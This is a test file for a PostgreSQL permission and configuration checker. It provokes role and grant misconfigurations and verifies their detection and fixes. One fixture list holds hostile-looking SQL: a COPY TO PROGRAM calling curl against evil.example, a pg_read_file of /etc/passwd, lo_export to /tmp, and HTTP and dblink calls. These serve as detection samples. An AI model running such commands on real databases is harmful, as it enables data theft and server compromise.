// Each finding provoked, and put right by the very command that it names.
import { strict as assert } from 'node:assert';
import { after, before, test } from 'node:test';
import { inspect } from 'node:util';
import pg from 'pg';
import { startPostgres, type Postgres } from '../../../../support/postgres.ts';
import { makeRoles, type RoleSettings } from '../../../../test/support/postgres-roles.ts';
import { Secret } from '../../../lib/secret.ts';
import { Problem } from '../../../model/problem.ts';
import type { Ask } from '../session/ask.ts';
import type { Finding, FindingCode } from './finding.ts';
import { checkRoles, examine, openRolesCheck, withRoles, type RoleUrls } from './findings.ts';
import { parsePostgresSettings, type PostgresSettings } from '../settings.ts';

const SCHEMA = `
CREATE TABLE orders (id serial PRIMARY KEY, n int);
CREATE TABLE others (id int PRIMARY KEY);
CREATE ROLE crew NOLOGIN;
GRANT UPDATE ON others TO crew;
`;

let server: Postgres;
let admin: pg.Client;
let roles: RoleSettings;
const DATABASE = 'found';

before(async () => {
  server = await startPostgres({ settings: { fsync: 'off' } });
  await server.createDatabase(DATABASE);
  admin = new pg.Client(server.url(DATABASE));
  admin.on('error', () => {});
  await admin.connect();
  await admin.query(SCHEMA);
  roles = await makeRoles(server.url(DATABASE));
});
after(async () => {
  await admin?.end();
  await server?.stop();
});

function urls(): RoleUrls {
  return {
    writer: new Secret(roles.url),
    reader: new Secret(roles.reader),
    evidence: new Secret(roles.evidence),
    undo: new Secret(roles.undo),
  };
}

function settings(more: object = {}): PostgresSettings {
  return parsePostgresSettings('t', { ...roles, ...more });
}

const find = (more: object = {}, from: RoleUrls = urls()): Promise<readonly Finding[]> =>
  withRoles(from, async (asks, refused) => [
    ...refused,
    ...(await checkRoles(asks, settings(more))),
  ]);

async function opens(more: object = {}, from: RoleUrls = urls()): Promise<void> {
  await openRolesCheck('t', from, settings(more))();
}

/** Runs what the findings say; who owned a table has no right to it left, which is the next finding. */
async function fixAll(): Promise<void> {
  for (let round = 0; round < 2; round += 1) {
    for (const { fix } of await find()) if (fix.kind === 'sql') await admin.query(fix.sql);
  }
}

interface Provoked {
  readonly code: FindingCode;
  readonly severity: Finding['severity'];
  readonly sql: string;
  /** What the fix alone does not clear away. */
  readonly after?: string;
}

const W = 'wg_writer_found';
const R = 'wg_reader_found';
const E = 'wg_evidence_found';
const U = 'wg_undo_found';
const REFUSED = { severity: 'refuse' } as const;
const NOTED = { severity: 'note' } as const;

const PROVOKED: readonly Provoked[] = [
  { ...REFUSED, code: 'role-superuser', sql: `ALTER ROLE ${W} SUPERUSER` },
  { ...REFUSED, code: 'role-superuser', sql: `ALTER ROLE ${U} SUPERUSER` },
  { ...REFUSED, code: 'role-createrole', sql: `ALTER ROLE ${R} CREATEROLE` },
  { ...REFUSED, code: 'role-createdb', sql: `ALTER ROLE ${W} CREATEDB` },
  { ...REFUSED, code: 'role-replication', sql: `ALTER ROLE ${E} REPLICATION` },
  { ...REFUSED, code: 'role-bypassrls', sql: `ALTER ROLE ${W} BYPASSRLS` },
  { ...REFUSED, code: 'role-member', sql: `GRANT crew TO ${W}` },
  { ...REFUSED, code: 'role-owns', sql: `ALTER TABLE others OWNER TO ${W}` },
  { ...REFUSED, code: 'role-create', sql: `GRANT CREATE ON SCHEMA public TO ${W}` },
  { ...REFUSED, code: 'role-create', sql: `GRANT CREATE ON DATABASE ${DATABASE} TO ${R}` },
  { ...NOTED, code: 'role-create', sql: 'GRANT CREATE ON SCHEMA public TO PUBLIC' },
  {
    ...NOTED,
    code: 'role-create',
    sql: `CREATE SCHEMA apart; GRANT CREATE ON SCHEMA apart TO ${W}`,
  },
  {
    ...NOTED,
    code: 'reader-writes',
    sql: `CREATE TABLE apart.t (); GRANT INSERT ON apart.t TO ${R}`,
  },
  { ...REFUSED, code: 'role-temp', sql: `GRANT TEMPORARY ON DATABASE ${DATABASE} TO ${W}` },
  { ...NOTED, code: 'role-temp', sql: `GRANT TEMPORARY ON DATABASE ${DATABASE} TO PUBLIC` },
  { ...REFUSED, code: 'role-truncate', sql: `GRANT TRUNCATE, TRIGGER ON orders TO ${W}` },
  { ...NOTED, code: 'role-truncate', sql: `GRANT MAINTAIN ON others TO PUBLIC` },
  { ...REFUSED, code: 'reader-writes', sql: `GRANT INSERT ON others TO ${R}` },
  { ...REFUSED, code: 'reader-writes', sql: `GRANT UPDATE (n) ON orders TO ${E}` },
  {
    ...REFUSED,
    code: 'settings-poisoned',
    sql: `ALTER ROLE ${W} SET session_replication_role = replica`,
  },
  {
    ...REFUSED,
    code: 'settings-poisoned',
    sql: `ALTER ROLE ${W} IN DATABASE ${DATABASE} SET track_counts = off`,
  },
  {
    ...REFUSED,
    code: 'settings-poisoned',
    sql: `ALTER DATABASE ${DATABASE} SET transform_null_equals = on`,
  },
  { ...REFUSED, code: 'settings-poisoned', sql: 'ALTER ROLE ALL SET array_nulls = off' },
  { ...NOTED, code: 'missing-grant', sql: `REVOKE UPDATE ON orders FROM ${W}` },
  { ...NOTED, code: 'missing-grant', sql: `REVOKE USAGE ON SEQUENCE orders_id_seq FROM ${W}` },
  { ...NOTED, code: 'missing-grant', sql: `REVOKE SELECT ON orders FROM ${R}` },
  { ...NOTED, code: 'missing-grant', sql: `REVOKE SELECT ON orders FROM ${E}` },
  {
    ...NOTED,
    code: 'missing-grant',
    sql: `REVOKE SET ON PARAMETER session_replication_role FROM ${U}`,
  },
  {
    ...NOTED,
    code: 'missing-grant',
    sql: 'ALTER TABLE orders ENABLE ROW LEVEL SECURITY',
    after: `ALTER TABLE orders DISABLE ROW LEVEL SECURITY; ALTER ROLE ${E} NOBYPASSRLS`,
  },
  {
    ...NOTED,
    code: 'writes-elsewhere',
    sql: `CREATE SCHEMA far; CREATE TABLE far.t (); GRANT DELETE ON far.t TO ${W}`,
  },
  { ...REFUSED, code: 'unlogged-receipts', sql: 'ALTER TABLE writegate.receipts SET UNLOGGED' },
];

for (const { code, severity, sql, after: tidy } of PROVOKED) {
  test(`${code} is found after ${sql.slice(0, 60)}, and its fix puts it right`, async (context) => {
    if (sql.includes('MAINTAIN') && Number.parseInt(server.version, 10) < 17) {
      return context.skip('the right came with 17');
    }
    assert.deepEqual(await find(), []);
    await admin.query(sql);
    const findings = await find();
    assert.deepEqual([...new Set(findings.map((each) => each.code))], [code]);
    for (const each of findings) {
      assert.equal(each.severity, severity);
      assert(each.fix.kind === 'sql', each.message);
    }
    const isShut = severity === 'refuse';
    if (isShut) {
      await assert.rejects(opens(), (error) => {
        assert(error instanceof Problem && error.code === 'target-misconfigured');
        assert.match(error.message, new RegExp(`\\n${code}: .*; `));
        assert.ok(error.message.includes('writegate doctor t'));
        return true;
      });
      await opens({ acceptFindings: [code] });
    } else {
      await opens();
    }
    await fixAll();
    assert.deepEqual(await find(), []);
    if (tidy !== undefined) await admin.query(tidy);
  });
}

test('a receipt table that the writer made itself is noted, and reassigned by its fix', async () => {
  await admin.query(
    `ALTER SCHEMA writegate OWNER TO ${W}; ALTER TABLE writegate.receipts OWNER TO ${W}`,
  );
  const findings = await find();
  assert.deepEqual(
    findings.map(({ code, severity }) => [code, severity]),
    [['role-owns', 'note']],
  );
  await fixAll();
  assert.deepEqual(await find(), []);
});

test('a lock time limit over that of deadlocks is named with what to set', async () => {
  const [finding, ...rest] = await find({ lockTimeoutMs: 1_000 });
  assert.deepEqual(
    [finding?.code, finding?.fix],
    ['lock-timeout-over-deadlock-timeout', { kind: 'settings', text: 'set `lockTimeoutMs: 333`' }],
  );
  assert.deepEqual(rest, []);
  assert.deepEqual(await find({ lockTimeoutMs: 333 }), []);
});

test('a table that is not there is named', async () => {
  const [finding] = await find({ tables: ['orders', 'orderz'] });
  assert.deepEqual([finding?.code, finding?.object], ['missing-table', 'public.orderz']);
});

test('the sequence of a table that a trigger inserts into is wanted of the writer, too', async () => {
  await admin.query(`
    CREATE TABLE trail (id bigserial PRIMARY KEY, n int);
    CREATE FUNCTION follow() RETURNS trigger LANGUAGE plpgsql AS
      $$BEGIN INSERT INTO public.trail (n) VALUES (NEW.n); RETURN NEW; END$$;
    CREATE TRIGGER follow AFTER INSERT ON orders FOR EACH ROW EXECUTE FUNCTION follow()`);
  const lacking = async (): Promise<readonly Finding[]> =>
    (await find({ tables: ['orders'] })).filter(({ object }) => /trail_id_seq/.test(object ?? ''));
  try {
    const [finding] = await lacking();
    assert.equal(finding?.code, 'missing-grant');
    assert(finding.fix.kind === 'sql');
    assert.match(
      finding.fix.sql,
      new RegExp(`^GRANT USAGE ON SEQUENCE .*trail_id_seq.* TO "${W}"$`),
    );
    await admin.query(finding.fix.sql);
    assert.deepEqual(await lacking(), []);
  } finally {
    await admin.query('DROP TRIGGER follow ON orders; DROP FUNCTION follow(); DROP TABLE trail');
  }
});

test('a function in an untrusted language keeps the target shut until it is accepted by name', async () => {
  await admin.query(`
    CREATE FUNCTION crash() RETURNS trigger LANGUAGE c AS '$libdir/autoinc', 'autoinc';
    CREATE TRIGGER crash BEFORE INSERT ON orders FOR EACH ROW EXECUTE FUNCTION crash('n', 'orders_id_seq');`);
  try {
    const findings = await find();
    assert.deepEqual(
      findings.map(({ code, object }) => [code, object]),
      [['untrusted-function', 'public.crash']],
    );
    await assert.rejects(opens(), /untrusted-function: .*trigger crash.* is written in c/);
    await assert.rejects(opens({ acceptFindings: ['untrusted-function:public.other'] }));
    await opens({ acceptFindings: ['untrusted-function:public.crash'] });
    await opens({ tables: ['others'] });
  } finally {
    await admin.query('DROP FUNCTION crash CASCADE');
  }
});

const OUTWARD: readonly (readonly [sql: string, via: RegExp])[] = [
  [
    `CREATE FUNCTION inner_call() RETURNS void LANGUAGE plpgsql AS $$BEGIN
       PERFORM dblink_exec('dbname=x', 'DELETE FROM y'); END$$;
     CREATE FUNCTION outward() RETURNS trigger LANGUAGE plpgsql AS $$BEGIN PERFORM inner_call(); RETURN NEW; END$$;
     CREATE TRIGGER outward AFTER UPDATE ON orders FOR EACH ROW EXECUTE FUNCTION outward()`,
    /trigger outward → public\.outward\), which opens a second connection/,
  ],
  [
    `CREATE FUNCTION outward() RETURNS int LANGUAGE plpgsql AS $$BEGIN
       COPY others TO PROGRAM 'curl https://evil.example'; RETURN 1; END$$;
     ALTER TABLE orders ALTER n SET DEFAULT outward()`,
    /default of n\), which runs a program/,
  ],
  [
    `CREATE FUNCTION outward(int) RETURNS boolean LANGUAGE sql IMMUTABLE AS $$SELECT net.http_post($1)$$;
     ALTER TABLE orders ADD CONSTRAINT outward CHECK (outward(n)) NOT VALID`,
    /check outward\), which calls out over HTTP/,
  ],
  [
    `CREATE FUNCTION outward(int) RETURNS boolean LANGUAGE plpgsql AS $$BEGIN
       RETURN pg_read_file('/etc/passwd') <> ''; END$$;
     CREATE DOMAIN small AS int CHECK (outward(VALUE)); ALTER TABLE orders ADD s small`,
    /domain small\), which reads or writes the server's files/,
  ],
  [
    `CREATE FUNCTION outward() RETURNS void LANGUAGE plpgsql AS $$BEGIN PERFORM lo_export(1, '/tmp/x'); END$$;
     CREATE RULE outward AS ON UPDATE TO orders DO ALSO SELECT outward()`,
    /rule outward\), which reads or writes/,
  ],
  [
    `CREATE FUNCTION outward(int) RETURNS boolean LANGUAGE plpgsql AS $$BEGIN
       RETURN http_get('x') IS NULL; END$$;
     CREATE POLICY outward ON orders USING (outward(n))`,
    /policy outward\), which calls out over HTTP/,
  ],
];

for (const [sql, via] of OUTWARD) {
  test(`what reaches out of the transaction is found: ${String(via).slice(1, 40)}`, async () => {
    await admin.query('SET check_function_bodies = off');
    await admin.query('BEGIN');
    await admin.query(sql);
    await admin.query('COMMIT');
    try {
      const [finding] = await find();
      assert.equal(finding?.code, 'foreign-connection');
      assert.match(finding?.message ?? '', via);
      await assert.rejects(opens(), /foreign-connection/);
    } finally {
      await admin.query(`
        DROP FUNCTION IF EXISTS outward CASCADE; DROP FUNCTION IF EXISTS inner_call CASCADE;
        ALTER TABLE orders DROP COLUMN IF EXISTS s; DROP DOMAIN IF EXISTS small`);
    }
    assert.deepEqual(await find(), []);
  });
}

test('words in a comment, and functions that nothing governed runs, are no finding', async () => {
  await admin.query(`
    CREATE FUNCTION calm() RETURNS trigger LANGUAGE plpgsql AS $$BEGIN
      -- dblink('x') was here
      /* COPY x TO PROGRAM 'y' */ RETURN NEW; END$$;
    CREATE TRIGGER calm AFTER UPDATE ON orders FOR EACH ROW EXECUTE FUNCTION calm();
    CREATE FUNCTION loud() RETURNS void LANGUAGE plpgsql AS $$BEGIN PERFORM dblink('x'); END$$;`);
  assert.deepEqual(await find(), []);
  await admin.query('DROP FUNCTION calm CASCADE; DROP FUNCTION loud');
});

test('a foreign table is noted: its effects cannot be counted', async () => {
  await admin.query(`
    CREATE EXTENSION postgres_fdw;
    CREATE SERVER far_away FOREIGN DATA WRAPPER postgres_fdw;
    CREATE FOREIGN TABLE abroad (id int) SERVER far_away`);
  try {
    const [finding, ...rest] = await find();
    assert.deepEqual([finding?.code, finding?.severity], ['foreign-table', 'note']);
    assert.deepEqual(rest, []);
  } finally {
    await admin.query('DROP EXTENSION postgres_fdw CASCADE');
  }
});

test('two connections that share a session are behind a pooler of transactions', async () => {
  await withRoles(urls(), async (asks) => {
    // As such a pooler does where nobody else asks: it lends the session that was last free.
    const shared = { ...asks, second: asks.writer };
    const [finding] = await checkRoles(shared, settings());
    assert.deepEqual([finding?.code, finding?.severity], ['pooler-transaction', 'refuse']);
    let turn = 0;
    const hopping: Ask = (text, values) => {
      turn += 1;
      return (turn % 2 === 0 ? asks.second : asks.writer)(text, values);
    };
    const hopped = await checkRoles({ ...asks, writer: hopping }, settings());
    assert.deepEqual(
      hopped.map(({ code }) => code),
      ['pooler-transaction'],
    );
  });
});

test('a credential that is refused is a finding, and no password is in what is said', async () => {
  const wrong = new URL(roles.reader);
  wrong.password = 'swordfish';
  const from = { ...urls(), reader: new Secret(wrong.href) };
  const findings = await find({}, from);
  assert.deepEqual(
    findings.map(({ code, object }) => [code, object]),
    [['role-login', 'reader']],
  );
  await assert.rejects(opens({}, from), /role-login/);
  const writer = { ...urls(), writer: new Secret(wrong.href) };
  for (const given of [from, writer]) {
    const error: unknown = await opens({}, given).catch((caught: unknown) => caught);
    assert.ok(!inspect(error, { depth: 9 }).includes('swordfish'));
  }
});

test('a check that held is not made again; one that did not is', async () => {
  const lines: string[] = [];
  await admin.query(`ALTER ROLE ${W} CREATEDB`);
  const accepting = settings({ acceptFindings: ['role-createdb'] });
  const check = openRolesCheck('t', urls(), accepting, (line) => lines.push(line));
  await check();
  await check();
  assert.equal(lines.length, 1);
  assert.match(lines[0] ?? '', /target `t`: accepted role-createdb: .*wg_writer_found/);
  const strict = openRolesCheck('t', urls(), settings());
  await assert.rejects(strict(), /role-createdb/);
  await admin.query(`ALTER ROLE ${W} NOCREATEDB`);
  await strict();
});

test('the check costs little', async (context) => {
  const durations: number[] = [];
  await withRoles(urls(), async (asks) => {
    for (let round = 0; round < 5; round += 1) {
      const from = performance.now();
      await examine(asks, settings());
      durations.push(performance.now() - from);
    }
  });
  context.diagnostic(`${durations.map((each) => each.toFixed(0)).join(', ')} ms`);
  // Measured at 10 to 15 ms; a machine that others use as well may take several times that.
  assert.ok(Math.min(...durations) < 100);
});
